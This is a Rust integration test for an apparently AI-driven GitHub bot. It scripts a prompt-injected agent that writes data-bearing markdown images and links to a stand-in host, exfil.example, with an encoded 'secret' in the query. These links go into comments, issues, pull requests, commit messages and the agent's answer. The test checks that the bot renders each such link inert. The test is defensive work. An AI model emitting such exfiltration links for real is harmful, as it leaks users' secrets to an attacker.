//! Links in what fro-bot posts (docs/security.md#links-in-what-fro-bot-posts), through the real
//! OpenCode: an injected agent writes data-bearing images and links into every text it has —
//! a comment, a new issue's title and body, the change's title and description (the pull request
//! and the commit message) and its answer. Each leaves with the URL shown as code; GitHub's own
//! host and `allowed-domains` stay links.

use serde_json::json;

use super::changes::{bash, tool};
use super::scenarios::{main_step, World};
use crate::support::action::{comment_event, explain, Launch};
use crate::support::fake_llm::Reply;

const EXFIL: &str = "https://exfil.example/p.png?d=c2VjcmV0";

/// `text` without its code spans (a run of backticks to the next run of the same length).
fn outside_code(text: &str) -> String {
    let b = text.as_bytes();
    let (mut out, mut i) = (Vec::new(), 0);
    while i < b.len() {
        let run = b[i..].iter().take_while(|c| **c == b'`').count();
        if run == 0 {
            out.push(b[i]);
            i += 1;
            continue;
        }
        let after = i + run;
        let close = (after..b.len()).find(|&j| {
            b[j - 1] != b'`' && b[j..].iter().take_while(|c| **c == b'`').count() == run
        });
        i = close.map_or(after, |j| j + run);
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// Nothing of the exfiltration host is left in `text` outside code (no link, no image, no bare
/// URL), and the text shows where one pointed.
fn assert_inert(what: &str, text: &str) {
    assert!(
        !outside_code(text).contains("exfil.example"),
        "{what} still links exfil.example: {text}"
    );
    assert!(
        text.contains("exfil.example"),
        "{what} still shows where it pointed: {text}"
    );
}

pub(crate) async fn every_text_the_agent_writes_leaves_with_its_foreign_links_inert(
    launch: Launch,
) {
    let world = World::start_with(launch).await;
    world.github.seed_issue(9, "Look into it", "x");
    let mut job = world.job(3400);
    job.set("GITHUB_SERVER_URL", world.github.url.clone());
    job.owned_by_runner_user(1001);
    job.input("allowed-domains", "docs.rs");
    world.github.seed_git_repo(&job.workspace());
    let own = format!("{}/octo/hello/issues/1", world.github.url);
    world.llm.push(Reply::tool(
        tool("comment"),
        json!({"number": 9, "body": format!("![chart]({EXFIL}) and [docs](https://docs.rs/url) and [#1]({own})")}),
    ));
    world.llm.push(Reply::tool(
        tool("create_issue"),
        json!({"title": "see www.exfil.example/t", "body": format!("<img src=\"{EXFIL}\">")}),
    ));
    world.llm.push(bash("printf 'hello world\\n' > README.md"));
    world.llm.push(Reply::tool(
        tool("describe_change"),
        json!({"title": "Greet [x](https://exfil.example/t)", "body": format!("Details: [here]({EXFIL})\n\n[r]: {EXFIL}")}),
    ));
    world.llm.push(Reply::text(format!(
        "Done. ![status](https://exfil.example/a.png?d=c2VjcmV0) See https://docs.rs/url. {own}"
    )));
    job.event("issue_comment", &comment_event(9, 901, "@fro-bot look"));
    let (_job, r) = main_step(job).await;
    assert_eq!(r.code, 0, "{}", explain(&r));

    let comments = world.github.created_comments();
    let comment = comments
        .iter()
        .map(|(_, body)| body)
        .find(|b| b.contains("chart"))
        .unwrap_or_else(|| panic!("the comment tool's comment: {comments:?}"));
    assert_inert("the comment", comment);
    assert!(comment.contains("[docs](https://docs.rs/url)"), "{comment}");
    assert!(comment.contains(&format!("[#1]({own})")), "{comment}");

    let issues = world.github.created_issues();
    assert_eq!(issues.len(), 1, "{issues:?}");
    assert_inert("the issue's title", issues[0]["title"].as_str().unwrap());
    assert_inert("the issue's body", issues[0]["body"].as_str().unwrap());

    let pulls = world.github.created_pulls();
    assert_eq!(pulls.len(), 1, "{}", explain(&r));
    assert_inert(
        "the pull request's title",
        pulls[0]["title"].as_str().unwrap(),
    );
    assert_inert(
        "the pull request's body",
        pulls[0]["body"].as_str().unwrap(),
    );
    let message = world.github.commit_message(r.output("commit-sha"));
    assert_inert("the commit message", &message);

    let answer = super::changes::answer(&world);
    assert_inert("the answer", &answer);
    assert!(answer.contains("https://docs.rs/url"), "{answer}");
    assert!(answer.contains(&own), "{answer}");
    assert!(
        r.summary.contains("| Links | ") && r.summary.contains("`exfil.example` ×"),
        "{}",
        r.summary
    );
}
